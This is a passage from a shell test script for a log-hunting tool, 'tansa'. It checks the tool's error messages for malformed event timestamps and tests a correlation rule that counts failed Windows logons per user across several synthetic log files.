check "an unreadable event time: said with its line, exit 1; a missing one counted" "1 1 1" \
    "$rc $(grep -c "t.jsonl: line 2: '12000-01-01T00:00:00Z' is no time tansa reads" "$w/s29/t.err") $(grep -c 'events without a readable time: 2' "$w/s29/t.err")"
# a correlation over events of several files names each record's file
mkdir -p "$w/s29/c" "$w/s29/cr"
for h in a b; do for i in 1 2; do
    printf '{"Channel":"Security","EventID":4625,"Computer":"%s","EventRecordID":%s,"TimeCreated":"2024-01-01T00:0%s:0%sZ","TargetUserName":"bob"}\n' "$h" "$i" "$i" "$([ $h = a ] && echo 1 || echo 2)"
done >"$w/s29/c/$h.jsonl"; done
cat >"$w/s29/cr/r.yml" <<'YML'
title: failed
id: 0a1b2c3d-0000-4000-8000-00000000f001
name: failed_logon
logsource: {product: windows, service: security}
detection:
    sel: {EventID: 4625}
    condition: sel
level: low
---
title: many failed
id: 0a1b2c3d-0000-4000-8000-00000000f002
correlation:
    type: event_count
    rules: [failed_logon]
    group-by: [TargetUserName]
    timespan: 1h
    condition: {gte: 4}
level: high
YML
got=$("$TANSA" hunt -q -f jsonl -r "$w/s29/cr" "$w/s29/c" 2>/dev/null | jq -c 'select(.rule_title == "many failed") | [.details.record_ids, (.details.record_files | map(split("/") | last))]')
check "a correlation over several files: each record's file" '[[1,1,2,2],["a.jsonl","b.jsonl","a.jsonl","b.jsonl"]]' "$got"
# a time written as a number, or a string TimeCreated, is said too; a long
# one is cut at a character's start
printf '%s\n' '{"Event":{"System":{"EventID":1,"Channel":"Security","Computer":"H","TimeCreated":{"#attributes":{"SystemTime":1700000000}}}}}' \
    '{"Event":{"System":{"EventID":1,"Channel":"Security","Computer":"H","TimeCreated":"yesterday"}}}' \
    "{\"Event\":{\"System\":{\"EventID\":1,\"Channel\":\"Security\",\"Computer\":\"H\",\"TimeCreated\":{\"#attributes\":{\"SystemTime\":\"$(printf 'A%.0s' $(seq 59))ééé\"}}}}}" >"$w/s29/t2.jsonl"
"$TANSA" hunt -f jsonl -r "$w/s29/r" "$w/s29/t2.jsonl" >/dev/null 2>"$w/s29/t2.err"
check "a numeric or string event time is said; a long one cut at a character" "1 1 1 0" \
    "$(grep -c "line 1: the number '1700000000' is no time" "$w/s29/t2.err") $(grep -c "line 2: 'yesterday' is no time" "$w/s29/t2.err") $(grep -c "line 3: 'A*' is no time" "$w/s29/t2.err") $(grep -c 'xc3' "$w/s29/t2.err")"
echo "$pass passed, $fail failed"
